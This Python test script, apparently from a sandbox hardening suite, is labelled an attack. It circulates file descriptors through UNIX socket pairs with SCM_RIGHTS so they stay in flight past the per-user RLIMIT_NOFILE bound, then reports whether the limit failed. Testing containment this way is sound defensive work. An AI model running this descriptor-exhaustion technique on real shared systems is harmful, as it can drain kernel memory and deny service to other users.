# attack: Sends descriptors in circles, so that they stay open without a table.
# layer: the kernel bounds descriptors in flight by RLIMIT_NOFILE, for each user
# second: the memory cgroup
# sites: guest
# host: files=3000 sockets=2000 slab=64M
import array
import socket

from attack import *

sent = 0
try:
    for _ in range(5000):
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        a.setblocking(False)
        rights = array.array("i", [a.fileno(), b.fileno()])
        a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        a.close()
        b.close()
        sent += 2
except OSError:
    pass
if sent > 4096:
    fell(f"{sent} descriptors in flight")
end()
